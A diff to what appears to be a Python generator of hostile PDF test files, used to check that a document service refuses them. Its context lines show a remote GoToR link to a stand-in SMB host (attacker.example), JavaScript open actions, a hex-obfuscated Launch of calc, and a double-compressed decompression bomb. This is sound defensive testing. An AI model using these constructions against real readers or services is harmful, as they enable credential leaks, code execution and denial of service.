@@ -1,4 +1,4 @@
-"""Creates hostile variants of sound files. Each contains one attack. Its folder is the reason for which the service refuses it."""
+"""Creates hostile variants of sound files. Each file contains one attack. Its folder names the reason for which the service refuses it."""
 
 import io
 import sys
@@ -96,7 +96,8 @@ def other_document(pdf: Pdf) -> Dictionary:
     return action("GoToR", F=String(r"\\attacker.example\a.pdf"), D=[0, Name.Fit])
 
 
-# The functions that add an attack to a PDF, by the reason of the refusal and the name of the file.
+# The functions that add an attack to a PDF. The outer key is the reason of the refusal, the inner key the name of the
+# file.
 ATTACKS = {
     "javascript": {
         "open-action": by(OpenAction=lambda pdf: javascript()),
@@ -165,10 +166,11 @@ def pdfs() -> None:
         "javascript", "encrypted-with-empty-password", script, encryption=Encryption(user="", owner="o", R=6), **STREAMS
     )
     twin("javascript", "linearized", script, linearize=True)
-    # Add the script to a sound file of each program, so that only the script can be the reason for the refusal.
+    # Add the script to a sound file of each program. The service accepts the sound file, so only the script can be the
+    # reason for the refusal.
     for base in sorted({path.name.split("-")[0]: path.name for path in SOUND.glob("*.pdf")}.values()):
         twin("javascript", f"twin-of-{base.removesuffix('.pdf')}", script, base=base, **STREAMS)
-    # The new name is as long as the old name, so the offsets in the file stay valid.
+    # The replacement has the same length, so the offsets in the file stay valid.
     plain = (OUT / "launch" / "link-plain.pdf").read_bytes()
     write("launch", "name-in-hexadecimal.pdf", plain.replace(b"/Launch", b"/#4caun#63h").replace(b"....calc", b"calc"))
     plain = (OUT / "javascript" / "open-action-plain.pdf").read_bytes()
@@ -193,7 +195,7 @@ def update(whole: bytes) -> bytes:
 
 
 def bomb(piece: bytes, times: int) -> bytes:
-    """Writes a PDF whose catalog is in a twice compressed object stream, which decompresses to `times` copies of a piece."""
+    """Writes a PDF whose catalog is in an object stream that was compressed twice. It decompresses to `times` copies of a piece."""
     packer = zlib.compressobj(9)
     packed = packer.compress(b"1 0 2 40 " + b"<< /Type /Catalog /Pages 2 0 R >>       ")
     packed += b"".join(packer.compress(piece) for _ in range(times)) + packer.flush()
